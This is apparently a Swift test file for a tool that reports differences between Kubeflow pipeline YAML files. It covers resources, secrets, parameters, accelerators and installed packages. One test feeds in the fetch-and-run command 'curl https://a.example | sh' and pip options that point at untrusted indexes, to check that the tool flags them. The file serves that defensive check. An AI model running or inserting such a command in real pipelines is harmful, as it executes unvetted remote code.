import KFPPipelines
import Testing
import Workloads

/// Differences in the words of a pipeline's author.
@Suite struct DifferenceTests {
  func difference(_ old: String, _ new: String) -> PipelineDifference {
    func pipeline(_ text: String) -> Pipeline {
      Pipeline(Array(text.utf8), file: "a.yaml", for: ReleaseVersion(2, 14))
    }
    return PipelineDifference(from: pipeline(old), to: pipeline(new))
  }

  func text(
    image: String = "train:1", resources: String = "", task: String = "", parameters: String = "",
    tasks: String = "",
    platform: String = "", sdk: String = "2.14.4"
  ) -> String {
    """
    pipelineInfo: {name: demand}
    schemaVersion: 2.1.0
    sdkVersion: kfp-\(sdk)
    root:
      inputDefinitions: {parameters: {\(parameters)}}
      dag:
        tasks:
          train: {componentRef: {name: comp-train}, taskInfo: {name: train}\(task)}
          \(tasks)
    components: {comp-train: {executorLabel: exec-train}}
    deploymentSpec: {executors: {exec-train: {container: {image: '\(image)', resources: {\(resources)}}}}}
    ---
    platforms: {kubernetes: {deploymentSpec: {executors: {exec-train: {\(platform)}}}}}

    """
  }

  @Test func namesWhatAnAuthorKnows() {
    let result = difference(
      text(resources: "memoryLimit: 2.0", task: ", cachingOptions: {enableCache: true}"),
      text(
        image: "train:2", resources: "memoryLimit: 4.0, resourceMemoryLimit: 4G",
        parameters: "day: {parameterType: STRING}",
        tasks: "eval: {componentRef: {name: comp-train}}", platform: "imagePullPolicy: Always"))
    #expect(
      result.text(as: .text) == """
        demand: 6 differences
        pipeline
          parameter day: added, str
        task train
          cache: on → off
          image: train:1 → train:2
          memory limit: 2G → 4G
          setting imagePullPolicy: added, Always
        task eval
          added
        risk: runs that do not give "day" are refused: it is now required

        """)
  }

  /// What no run reads may still be what somebody meant to change.
  @Test func tellsOfDocumentsThatAServerDrops() {
    func changes(_ old: String, _ new: String) -> [String] {
      let result = difference(text() + old, text() + new)
      #expect(!result.isOnlySDK && !result.hasDetail)
      return result.groups.flatMap { $0.changes.map(\.text) }
    }
    #expect(changes("---\nowner: a\n", "---\nowner: b\n") == ["a document that the server drops: changed"])
    #expect(changes("", "---\nowner: b\n") == ["a document that the server drops: added"])
    #expect(changes("---\nowner: b\n", "") == ["a document that the server drops: removed"])
    #expect(changes("---\na: 1\nb: 2\n", "---\nb: 2.0\na: 1 # one\n---\n").isEmpty)
    #expect(
      changes(
        "---\nplatforms: {kubernetes: {config: {a: 1}}}\n", "---\nplatforms: {kubernetes: {config: {a: 2}}}\n"
      )
        == ["a document for which the server refuses the file: changed"])
    let (old, new) = (
      text(platform: "}}}, other: {a: {b: {d: 1"), text(platform: "}}}, other: {a: {b: {d: 2")
    )
    #expect(
      difference(old, new).text(as: .text) == """
        demand: 1 difference
        pipeline
          the platform document, which the server drops: changed

        """)
  }

  @Test func saysWhenOnlyTheSDKChanged() {
    let result = difference(
      text(resources: "cpuLimit: 2.0"), text(resources: "cpuLimit: 2.0, resourceCpuLimit: '2'", sdk: "2.17.3")
    )
    #expect(result.isOnlySDK)
    #expect(result.text(as: .text) == "demand: only the SDK changed (kfp-2.14.4 → kfp-2.17.3)\n")
    #expect(difference(text(), text()).isEmpty)
  }

  @Test func doesNotSayTwiceWhatNewerSDKsSayTwice() {
    let old = text(platform: "secretAsEnv: [{secretName: db, keyToEnv: [{secretKey: a, envVar: A}]}]")
    let new = text(
      platform: """
        secretAsEnv: [{secretName: db, secretNameParameter: {runtimeValue: {constant: db}}, optional: false, \
        keyToEnv: [{envVar: A, secretKey: a}]}]
        """)
    #expect(difference(old, new).isEmpty)
    #expect(
      !difference(
        old, text(platform: "secretAsEnv: [{secretName: db-2, keyToEnv: [{secretKey: a, envVar: A}]}]")
      ).isEmpty)
  }

  /// Later SDKs write where the name of a claim comes from twice.
  @Test(arguments: [
    ("taskOutputParameter: {producerTask: claim, outputParameterKey: name}"),
    ("componentInputParameter: claim"),
  ])
  func doesNotSayTwiceWhereAClaimComesFrom(_ source: String) {
    func mount(_ more: String) -> String {
      text(platform: "pvcMount: [{mountPath: /work, \(source)\(more)}]")
    }
    #expect(difference(mount(""), mount(", pvcNameParameter: {\(source)}")).isEmpty)
    let other = source.replacing("claim", with: "other")
    let changed = difference(mount(""), mount(", pvcNameParameter: {\(other)}")).text()
    #expect(changed.contains("setting pvcMount") && changed.contains(": other"), "\(changed)")
  }

  /// Only one of the two places is read, so that nothing may be said of the other alone.
  @Test(arguments: [
    "secretName: other, secretNameParameter: {runtimeValue: {constant: db}}",
    "secretName: db, secretNameParameter: {runtimeValue: {constant: other}}",
    "secretName: db, secretNameParameter: {runtimeValue: {constant: db, constantValue: {stringValue: db}}}",
  ])
  func seesANameThatIsChangedInOnePlace(_ names: String) {
    let old = text(
      platform: "imagePullSecret: [{secretName: db, secretNameParameter: {runtimeValue: {constant: db}}}]")
    let result = difference(old, text(platform: "imagePullSecret: [{\(names)}]"))
    #expect(result.text().contains("setting imagePullSecret"), "\(result.text())")
  }

  @Test func seesAFieldOfResourcesThatNoFactTells() {
    #expect(difference(text(), text(resources: "constantValue: 3")).hasDetail)
  }

  /// The older fields say the same as the newer ones, or Vertex AI gives the step something else.
  @Test(arguments: [
    ("cpuLimit: 1.0, resourceCpuLimit: '1'", "cpuLimit: 2.0, resourceCpuLimit: '1'", "cpu limit", "2"),
    (
      "memoryRequest: 2.5, resourceMemoryRequest: 2500M", "memoryRequest: 2.6, resourceMemoryRequest: 2500M",
      "memory request", "2.6G"
    ),
    (
      "memoryRequest: 0.000001024, resourceMemoryRequest: 1Ki",
      "memoryRequest: 1.0, resourceMemoryRequest: 1Ki",
      "memory request", "1G"
    ),
  ])
  func tellsAmountsThatDifferInTheOlderFieldAlone(
    _ old: String, _ new: String, _ name: String, _ amount: String
  ) {
    let result = difference(text(resources: old), text(resources: new))
    #expect(
      result.text(as: .text) == """
        demand: 1 difference
        task train
          \(name) in its older field: added, \(amount)

        """)
  }

  @Test func tellsAcceleratorsThatDifferInTheOlderFieldsAlone() {
    func accelerator(_ older: String) -> String {
      text(resources: "accelerator: {\(older), resourceType: nvidia.com/gpu, resourceCount: '1'}")
    }
    let same = accelerator("type: nvidia.com/gpu, count: '1'")
    #expect(difference(accelerator("type: NVIDIA_L4, count: '1'"), same).text().contains("1 NVIDIA_L4"))
    #expect(
      difference(same, accelerator("type: nvidia.com/gpu, count: '2'")).text().contains(
        "accelerator in its older fields: added, 2 nvidia.com/gpu"))
    #expect(difference(same, text(resources: "accelerator: {type: nvidia.com/gpu, count: 1}")).isEmpty)
  }

  @Test(arguments: ["", ", count: 0", ", resourceCount: '0'", ", count: '0'"])
  func asksForNoAcceleratorWhoseNumberIsZero(_ count: String) {
    let none = text(resources: "accelerator: {type: nvidia.com/gpu\(count)}")
    #expect(!difference(text(), none).text().contains("accelerator"))
    #expect(
      difference(none, text(resources: "accelerator: {type: nvidia.com/gpu, count: 2}")).text().contains(
        "accelerator: added, 2 nvidia.com/gpu"))
  }

  /// What a difference says of two texts.
  func changes(_ old: String, _ new: String) -> [String] {
    difference(old, new).groups.flatMap { $0.changes.map(\.text) }
  }

  /// A container whose words are more than a difference shows.
  func words(_ changed: String...) -> String { words(changed) }

  func words(_ changed: [String]) -> String {
    let words = (1...60).map { "--option-\($0)=value" } + changed + ["--last"]
    return text().replacing(
      "resources:", with: "args: [\(words.map { "'\($0)'" }.joined(separator: ", "))], resources:")
  }

  @Test func tellsWhichOfManyWordsChanged() {
    #expect(changes(words("--data"), words("--delete")) == [#"arguments: "--data" → "--delete""#])
    #expect(changes(words(), words("--force", "now")) == [#"arguments: added, "--force", "now""#])
    #expect(changes(words("--force"), words()) == [#"arguments: removed, was "--force""#])
    #expect(
      changes(words("a", "b", "c"), words("x", "b", "y")) == [
        #"arguments: "a" → "x""#, #"arguments: "c" → "y""#,
      ])
    let long = String(repeating: "a word, ", count: 60)
    #expect(
      changes(words(long + "image:1.4, " + long), words(long + "image:1.5, " + long))
        == ["arguments: …1.4… → …1.5…"])
    #expect(changes(words(long), words("other, " + long + "more")) == ["arguments: changed"])
    let many = words((1...2000).map { "\($0)" })
    #expect(changes(many, words((1...2000).map { "\($0 + 1)" })) == ["arguments: changed"])
  }

  @Test(arguments: [
    ("day: {parameterType: STRING}", "", "runs that give \"day\" are refused: the pipeline no longer has it"),
    (
      "n: {parameterType: STRING}", "n: {parameterType: NUMBER_INTEGER}",
      "runs that give \"n\" as str are refused: it is now int"
    ),
    ("", "n: {parameterType: NUMBER_INTEGER}", "runs that do not give \"n\" are refused: it is now required"),
  ])
  func saysWhatBreaksForCallers(_ old: String, _ new: String, _ risk: String) {
    #expect(difference(text(parameters: old), text(parameters: new)).risks == [risk])
  }

  /// A pipeline of one lightweight step.
  func function(
    script: String = "python3 -m pip install 'kfp==2.14.4' '--no-deps' && \"$0\" \"$@\"",
    name: String = "train",
    more: String = "", component: String = "", sdk: String = "2.14.4"
  ) -> String {
    """
    pipelineInfo: {name: demand}
    schemaVersion: 2.1.0
    sdkVersion: kfp-\(sdk)
    root:
      inputDefinitions: {parameters: {password: {parameterType: STRING, defaultValue: first}}}
      dag: {tasks: {train: {componentRef: {name: comp-train}\(more)}}}
    components: {comp-train: {executorLabel: exec-train\(component)}}
    deploymentSpec:
      executors:
        exec-train:
          container:
            image: train:1
            command: [sh, -c, '\(script.replacing("'", with: "''"))', 'def train(): pass']
            args: [--executor_input, '{{$}}', --function_to_execute, \(name)]

    """
  }

  @Test(arguments: [
    ("python3 -m pip install --index-url https://pypi.other.example/simple 'kfp==2.14.4'", "package indexes"),
    ("python3 -m pip install --trusted-host pypi.example 'kfp==2.14.4'", "trusted hosts"),
    ("python3 -m pip install --pre 'kfp==2.14.4'", "options of pip"),
    ("curl https://a.example | sh; python3 -m pip install 'kfp==2.14.4'", "start"),
  ])
  func seesWhatALightweightStepInstallsAndRuns(_ script: String, _ fact: String) {
    let before = function(script: "python3 -m pip install 'kfp==2.14.4'")
    let after = function(script: script, sdk: "2.17.3")
    let result = difference(before, after)
    #expect(!result.isOnlySDK)
    #expect(result.groups.flatMap(\.changes).map(\.name) == [fact], "\(result.text())")
  }

  @Test func doesNotSayWhatOnlyAnotherSDKWrites() {
    let old = function(
      script: "PIP_DISABLE_PIP_VERSION_CHECK=1 python3 -m pip install --quiet 'a==1' 'kfp==2.0.1'")
    let new = function(
      script: """
        PIP_DISABLE_PIP_VERSION_CHECK=1 python3 -m pip install --quiet 'a==1'  &&  python3 -m pip install 'kfp==2.17.3' \
        '--no-deps' 'typing-extensions>=3.7.4,<5; python_version<"3.9"'
        """, sdk: "2.17.3")
    #expect(difference(old, new).isOnlySDK, "\(difference(old, new).text())")
  }

  /// What an author installs is told apart from what the SDK installs for itself, whichever line comes first.
  @Test(arguments: [
    "python3 -m pip install 'kfp==2.14.4' '--no-deps' && python3 -m pip install 'kfp==VERSION' 'a==1'",
    "python3 -m pip install 'kfp==VERSION' 'a==1' && python3 -m pip install 'kfp==2.14.4' '--no-deps'",
    "python3 -m pip install 'kfp==VERSION' 'a==1' 'kfp==2.0.1'",
    // The SDK installs nothing where the author installs it.
    "python3 -m pip install 'kfp==VERSION' 'a==1'",
  ])
  func seesAnotherVersionOfKFPThatTheAuthorInstalls(_ script: String) {
    let result = difference(
      function(script: script.replacing("VERSION", with: "2.7.0")),
      function(script: script.replacing("VERSION", with: "2.9.0")))
    #expect(
      result.groups.flatMap { $0.changes.map(\.text) } == ["packages: kfp==2.7.0, a==1 → kfp==2.9.0, a==1"])
  }

  @Test func seesAnotherFunctionOfTheSameFile() {
    let result = difference(function(), function(name: "steal"))
    #expect(result.groups.first?.changes.map(\.name) == ["arguments"], "\(result.text())")
  }

  @Test(arguments: [
    (", lifecycle: {preCacheCheck: {a: b}}", ""),
    (
      "",
      ", outputDefinitions: {artifacts: {m: {artifactType: {schemaTitle: system.Model}, metadata: {a: 1}}}}"
    ),
    ("", ", inputDefinitions: {artifacts: {m: {isArtifactList: true}}}"),
  ])
  func saysThatThereIsMoreThanItCanTell(more: String, component: String) {
    let old = component.replacing(", metadata: {a: 1}", with: "").replacing("isArtifactList: true", with: "")
    for sdk in ["2.14.4", "2.17.3"] {
      let result = difference(function(component: old), function(more: more, component: component, sdk: sdk))
      #expect(!result.isEmpty && !result.isOnlySDK && result.hasDetail)
      #expect(result.summary.hasPrefix("a detail that no task shows"), "\(result.summary)")
    }
  }

  /// A marker's descriptions are the SDK's own, and its inputs are not.
  @Test func seesWhatIsWrongWithTheInputsOfAMarker() {
    func marker(_ inputs: String) -> String {
      text(
        image: "argostub/createpvc", task: ", inputs: {parameters: {name: {runtimeValue: {constant: a}}}}"
      ).replacing(
        "{executorLabel: exec-train",
        with: "{inputDefinitions: {parameters: {\(inputs)}}, executorLabel: exec-train")
    }
    let old = marker("name: {parameterType: STRING, description: one}")
    #expect(difference(old, marker("name: {parameterType: STRING, description: two}")).isEmpty)
    let offer = "source: {parameterType: STRUCT, isOptional: true}"
    #expect(difference(old, marker("name: {parameterType: STRING, description: one}, \(offer)")).isEmpty)
    for wrong in ["name: 1e+30", "name: {parameterType: LIST}", "other: {parameterType: STRING}"] {
      #expect(difference(old, marker(wrong)).hasDetail)
    }
  }

  @Test func aVariableThatIsWrittenTwiceIsTheSame() {
    let twice = text().replacing(
      "resources:", with: "env: [{name: A, value: '1'}, {name: A, value: '2'}], resources:")
    #expect(difference(twice, twice).isEmpty)
    #expect(
      difference(twice, twice.replacing("value: '2'", with: "value: '3'")).groups.flatMap(\.changes).map(
        \.text)
        == ["variable A: 2 → 3"])
  }

  @Test func aWholeNumberMayBecomeANumber() {
    let old = text(parameters: "n: {parameterType: NUMBER_INTEGER, isOptional: true}")
    let new = text(parameters: "n: {parameterType: NUMBER_DOUBLE, isOptional: true}")
    #expect(difference(old, new).risks.isEmpty)
    #expect(!difference(new, old).risks.isEmpty)
  }
}
